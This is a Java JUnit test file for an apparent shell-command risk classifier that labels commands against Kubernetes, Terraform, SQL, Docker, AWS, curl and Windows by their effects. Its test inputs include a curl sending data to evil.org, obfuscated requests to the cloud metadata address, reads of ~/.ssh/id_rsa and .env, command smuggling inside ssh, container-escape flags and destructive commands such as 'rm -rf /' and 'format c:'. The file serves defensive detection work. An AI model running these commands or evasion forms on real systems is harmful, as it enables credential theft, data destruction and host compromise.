package io.brattice.shell.program;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;

class RemoteProgramsTest {

    @Test
    void aPlanThatRunsAProgramOfTheFolderIsCode() {
        assertEquals(
                "network providers",
                new Asked().file("main.tf", "resource \"a\" \"b\" {}").read("terraform plan"));
        assertEquals(
                "network providers; code",
                new Asked().file("main.tf", "data \"external\" \"x\" {}").read("terraform plan"));
        assertEquals(
                "network providers; code; update terraform:state irreversible",
                new Asked().file("main.tf", "data \"external\" \"x\" {}").read("terraform apply -auto-approve"));
    }

    @Test
    void aRehearsalOfKubectlCannotBeTakenBackByItsWords() {
        assertTrue(Asked.by("kubectl delete pod a").endsWith("rehearsal"));
        assertFalse(Asked.by("kubectl delete pod a --dry-run=none").contains("rehearsal"));
        assertFalse(
                Asked.by("kubectl create job j --image=i --dry-run=none -- sh").contains("rehearsal"));
        assertEquals("", Asked.by("kubectl delete pod a --dry-run=none --dry-run=client"));
        assertTrue(Asked.by("kubectl create job j --image=i -- sh --dry-run=client")
                .startsWith("create "));
    }

    @Test
    void aConfigurationOfKubectlMayNameAProgram() {
        assertEquals("", new Asked().file("k", "clusters: []").read("kubectl --kubeconfig k get pods"));
        assertEquals(
                "opaque",
                new Asked().file("k", "users: [{user: {exec: {command: x}}}]").read("kubectl --kubeconfig k get pods"));
        assertEquals("opaque", Asked.by("kubectl --kubeconfig k get pods"));
    }

    @Test
    void secretsOfAClusterAreFoundInEverySpelling() {
        for (String what : new String[] {
            "secret a", "secrets a", "secrets.v1. a", "secret/a", "pod,secret a", "SECRET a", "pod/x secret/a"
        }) {
            assertTrue(
                    Asked.by("kubectl get " + what + " -o json")
                            .contains("disclose kubernetes:current/default/secret/a"),
                    what);
            assertEquals("", Asked.by("kubectl get " + what), what);
        }
        assertTrue(Asked.by("kubectl get --raw /api/v1/secrets").startsWith("disclose"));
        assertTrue(Asked.by("kubectl get <unknown> -o yaml").startsWith("opaque")
                || Asked.by("kubectl get <unknown> -o yaml").startsWith("disclose"));
    }

    @Test
    void aFileOfSqlIsReadBeforeItIsJudged() {
        assertEquals("read a.sql", new Asked().file("a.sql", "select 1;").read("psql -f a.sql"));
        assertEquals(
                "read a.sql; delete sql:default/t irreversible",
                new Asked().file("a.sql", "drop table t;").read("psql -f a.sql"));
        assertEquals(
                "delete sql:default/t irreversible",
                new Asked().input("delete from t").read("psql"));
        assertEquals(
                "read a.sql; read b.sql; delete sql:default/t irreversible",
                new Asked()
                        .file("a.sql", "\\i b.sql\n")
                        .file("b.sql", "drop table t")
                        .read("psql -f a.sql"));
        assertTrue(
                new Asked().file("a.sql", "\\i a.sql\n").read("psql -f a.sql").endsWith("opaque"));
    }

    @Test
    void aLocalDatabaseIsAFile() {
        assertEquals("update a.db", new Asked().file("a.db", "").read("sqlite3 a.db \"update t set a = 1\""));
        assertEquals("write a.db", Asked.by("sqlite3 a.db \"create table t(a int)\""));
        assertEquals("read a.db", new Asked().file("a.db", "").read("sqlite3 a.db .schema"));
        assertEquals(
                "opaque; read a.db",
                new Asked().file("a.db", "").input(".she ls").read("sqlite3 a.db"));
        assertEquals(
                "shell ls; read a.db",
                new Asked().file("a.db", "").input("select 1;\n  .shell ls").read("sqlite3 a.db"));
    }

    @Test
    void anAddressThatCarriesMuchSends() {
        assertTrue(Asked.by("curl https://example.org/" + "a".repeat(500)).contains("send "));
        assertTrue(Asked.by("curl https://" + "a".repeat(60) + ".example.org/").contains("send "));
        assertTrue(Asked.by("curl http://2852039166/").contains("disclose "));
        assertTrue(Asked.by("curl http://0251.0376.0251.0376/").contains("disclose "));
        assertTrue(Asked.by("curl http://[::ffff:a9fe:a9fe]/").contains("disclose "));
        assertTrue(Asked.by("curl http://example.org@169.254.169.254/").contains("disclose "));
        assertTrue(Asked.by("curl http://localhost@evil.org/ -d a").contains("send http://evil.org"));
        assertTrue(Asked.by("curl http://127.0.0.1%40evil.org/ -d a").contains("send "));
        assertTrue(Asked.by("curl -x http://p.org https://example.org").contains("send "));
    }

    @Test
    void whatGraphQlAsksAndChangesIsToldApart() {
        String url = "curl https://x.org/graphql --json ";
        assertTrue(
                Asked.by(url + "'{\"query\":\"query A { a } query B { b }\"}'").contains("read "));
        assertTrue(Asked.by(url + "'{\"query\":\"query A { a } mutation B { b }\"}'")
                .contains("send "));
        assertTrue(
                Asked.by(url + "'{\"query\":\"{ a(x: \\\"mutation\\\") }\"}'").contains("read "));
        assertTrue(Asked.by(url + "'{\"query\":\"# query\\nmutation { a }\"}'").contains("send "));
        assertTrue(Asked.by(url + "'{\"query\":\"DELETE FROM t\"}'").contains("send "));
        assertTrue(Asked.by(url + "'[{\"query\":\"{ a }\"}]'").contains("send "));
        assertTrue(Asked.by("curl https://x.org/api --json '{\"query\":\"{ a }\"}'")
                .contains("send "));
    }

    @Test
    void aCommandElsewhereLooksOnlyIfEveryPartDoes() {
        assertEquals("network h; read ssh:h read-only", Asked.by("ssh h sort a"));
        assertEquals("network h; read ssh:h read-only", Asked.by("ssh h \"sort a | sort -u && sort 'b c'\""));
        for (String command : new String[] {
            "sort a & rm b",
            "sort a; rm b",
            "sort $(rm b)",
            "sort `rm b`",
            "sort a > b",
            "sort -o b a",
            "sort a || rm b",
            "./sort a",
            "sort ~/.ssh/id_rsa",
            "sort .env",
            "X=1 sort a",
            "sort a\nrm b",
            "if true",
            "sort \"$x\"",
            "unknownprogram",
            "sort a # x"
        }) {
            assertTrue(
                    Asked.by("ssh h \""
                                    + command.replace("\\", "\\\\")
                                            .replace("`", "\\`")
                                            .replace("$", "\\$")
                                            .replace("\"", "\\\"")
                                    + "\"")
                            .contains("execute ssh:h"),
                    command);
        }
    }

    @Test
    void aContainerThatCanReachOutOfItselfIsToldSo() {
        for (String option : new String[] {
            "-v /:/host",
            "-v=/:/host",
            "--volume=/var/run/docker.sock:/s",
            "--mount type=bind,source=/,target=/h",
            "--privileged",
            "--pid=host",
            "--pid host",
            "--network host",
            "--net=host",
            "--cap-add SYS_ADMIN",
            "--device /dev/sda",
            "--security-opt seccomp=unconfined",
            "-v /etc/:/e"
        }) {
            String told = Asked.by("docker run " + option + " alpine sh");
            assertTrue(told.contains("irreversible") || told.equals("opaque"), option + ": " + told);
        }
        assertEquals("code", Asked.by("docker run --rm -it alpine rm -rf /"));
        assertEquals("read docker:container/db read-only", Asked.by("docker exec db sort a"));
        assertEquals("read docker:container/db read-only", Asked.by("docker exec db psql -U x -c 'select 1'"));
        assertEquals("code", Asked.by("docker exec db psql -U x -c 'drop table t'"));
        assertEquals("code", Asked.by("docker exec db env"));
    }

    @Test
    void aDryRunOfAwsIsOneOnlyWhereItExists() {
        assertFalse(
                Asked.by("aws ec2 stop-instances --instance-ids i --dry-run").contains("irreversible"));
        assertTrue(Asked.by("aws ec2 stop-instances --instance-ids i --dry-run --no-dry")
                .contains("irreversible"));
        assertTrue(Asked.by("aws rds stop-db-instance --db-instance-identifier i --dry-run")
                .contains("irreversible"));
        assertTrue(Asked.by("aws s3 rm s3://b --dry-run").equals("network s3.amazonaws.com; opaque"));
        assertTrue(Asked.by("aws ec2 stop-instances --instance-ids i <any> --dry-run")
                .contains("irreversible"));
    }

    @Test
    void aCommandLineOfWindowsIsNeverHarmless() {
        for (String command : new String[] {
            "cmd /c dir",
            "cmd.exe /d /c \"rmdir /s /q d:\\\\\"",
            "powershell -c ls",
            "rd /s /q x",
            "format c:",
            "pwsh -File x.ps1"
        }) {
            String told = Asked.by(command);
            assertTrue(told.contains("opaque") || told.contains("irreversible"), command + ": " + told);
        }
    }

    @Test
    void aSwitchIsNotTakenForItsNeighbour() {
        assertTrue(Asked.by("kubectl label pod a x=y --overwrite").startsWith("update "));
        assertTrue(Asked.by("kubectl label pod a x=y --list").startsWith("update "));
        assertTrue(Asked.by("kubectl label pod a x=y --local=false").startsWith("update "));
        assertEquals("", Asked.by("kubectl label pod a x=y --local"));
        assertEquals("update-tree .", Asked.by("terraform fmt -check=false"));
        assertEquals("list .", Asked.by("terraform fmt -check"));
    }

    @Test
    void aWordBehindAVerbIsNoVerb() {
        assertTrue(Asked.by("az config unset list").contains("irreversible"));
        assertTrue(Asked.by("az vm delete show").contains("delete azure:"));
        assertTrue(Asked.by("gcloud compute instances delete list").contains("delete gcloud:"));
        assertTrue(Asked.by("docker volume rm ls").contains("delete docker:volume/ls"));
    }

    @Test
    void psqlCopiesAQueryToAFile() {
        assertEquals("write f", Asked.by("psql -c \"\\\\copy (select * from t) to 'f' csv\""));
        assertEquals(
                "delete sql:default/t irreversible; write f",
                Asked.by("psql -c \"\\\\copy (delete from t returning *) to 'f'\""));
        assertEquals("opaque", Asked.by("psql -c \"\\\\copy (select 1) to program 'x'\""));
    }
}
